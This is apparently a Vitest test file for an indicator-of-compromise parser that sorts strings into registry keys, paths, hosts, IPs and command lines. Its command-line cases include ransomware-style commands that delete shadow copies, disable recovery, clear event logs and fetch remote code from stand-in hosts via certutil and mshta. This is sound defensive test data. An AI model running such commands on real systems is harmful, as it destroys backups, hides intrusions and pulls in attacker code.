import { expect, test } from 'vitest';
import { meantValue } from '@shared/ioc/reading/meant-value';

test.each([
  ['HKCR\\.lockbit', 'registry', 'HKCR\\.lockbit'],
  ['HKEY_CLASSES_ROOT\\.exe', 'registry', 'HKEY_CLASSES_ROOT\\.exe'],
  ['HKU\\.DEFAULT', 'registry', 'HKU\\.DEFAULT'],
  ['bob\\.ssh', 'filepath', 'bob\\.ssh'],
  ['Temp\\.a.exe', 'filepath', 'Temp\\.a.exe'],
  ['a\\.evil\\.com', 'domain', 'a.evil.com'],
  ['10\\.0\\.0\\.1', 'ip', '10.0.0.1'],
  ['https://evil\\.com/a', 'url', 'https://evil.com/a'],
  ['.\\administrator', 'username', '.\\administrator'],
])(
  'a backslash before a dot parts folders, unless a host is left without: %s',
  (text, type, value) => {
    expect(meantValue(text, null)).toMatchObject({ type, value, mode: 'literal' });
  },
);

test.each([
  ['HKCU:Software\\Evil', 'HKCU\\Software\\Evil'],
  ['HKCC:\\Software\\Evil', 'HKCC\\Software\\Evil'],
  ['HKLM/Software/Evil', 'HKLM/Software/Evil'],
  ['Registry::HKEY_CURRENT_CONFIG\\Evil', 'HKEY_CURRENT_CONFIG\\Evil'],
])('a key in any spelling that is met as one: %s', (text, value) => {
  expect(meantValue(text, null)).toMatchObject({ type: 'registry', value });
});

const WILDCARD = { mode: 'wildcard', remarks: ['its * is read as a wildcard'] };
test.each([
  ...([
    ['pipe', 'evil_*'],
    ['mutex', 'evil*'],
    ['service', 'evil*'],
    ['username', 'adm*'],
    ['useragent', 'evil*'],
    ['sid', 'S-1-5-21-*'],
    ['registry', 'HKLM\\Software\\*\\Run'],
  ] as const),
])('a %s with a star is a wildcard, as its remark says: %s', (type, value) => {
  expect(meantValue(value, type)).toMatchObject({ type, value, ...WILDCARD });
});

test.each([
  ['\\\\.\\pipe\\MSSE-*-server', 'pipe'],
  ['HKEY_USERS\\*\\Software\\Evil', 'registry'],
  ['Global\\evil*', 'mutex'],
])('so is one that its looks tell: %s', (value, type) => {
  expect(meantValue(value, null)).toMatchObject({ type, value, ...WILDCARD });
});

test("a star that may be the value's own is sought as it is written, and that is said", () => {
  const remarks = ['its * is sought as it is written'];
  expect(meantValue('del *.log', 'commandline')).toMatchObject({ mode: 'literal', remarks });
  expect(meantValue('ev*il', 'text')).toMatchObject({ mode: 'literal', remarks });
  expect(meantValue('cmd.exe /c del *.log', null)).toMatchObject({ mode: 'literal', remarks });
  expect(meantValue('HKCR\\*\\shell\\open', null)).toMatchObject({
    ...{ type: 'registry', mode: 'literal', remarks: ['its * is the name of a key'] },
  });
});

test('a protocol behind an address is left out, a network of too many bits is refused', () => {
  expect(meantValue('10.0.0.1/tcp', null)).toMatchObject({
    ...{ type: 'ip', value: '10.0.0.1', remarks: ['/tcp is left out'] },
  });
  expect(meantValue('10.0.0.1:443/tcp', null)).toMatchObject({
    ...{ type: 'ip', value: '10.0.0.1', remarks: ['port 443 is left out', '/tcp is left out'] },
  });
  expect(meantValue('evil.example/tcp', null)).toMatchObject({ type: 'url' });
  expect(meantValue('10.0.0.1/33', null)).toMatchObject({ ok: false });
  expect(meantValue('2001:db8::/129', null)).toMatchObject({ ok: false });
  expect(meantValue('10.0.0.0/24,tor', null)).toMatchObject({ type: 'text' });
});

test.each([
  ...[
    'vssadmin delete shadows /all',
    'wmic shadowcopy delete',
    'net user evil /add',
    'net group x',
  ],
  ...[
    'reg add HKLM\\a /v b',
    'schtasks /create /tn a',
    'bcdedit /set {default} recoveryenabled no',
  ],
  ...[
    'wevtutil cl System',
    'powershell -enc A',
    'cmd /c whoami',
    'certutil -urlcache -f http://a b',
  ],
  ...['rundll32 a.dll,Main', 'mshta http://evil.example/a', 'ping 10.0.0.1', 'type C:\\a.txt'],
])('a known program with what it is given is a command: %s', (value) => {
  expect(meantValue(value, null)).toMatchObject({ type: 'commandline', value });
});

test.each([
  'net profit',
  'powershell was used',
  'type of malware',
  'start of the attack',
  'whoami',
])('a sentence is none: %s', (value) => {
  expect(meantValue(value, null)).toMatchObject({ type: 'text' });
});
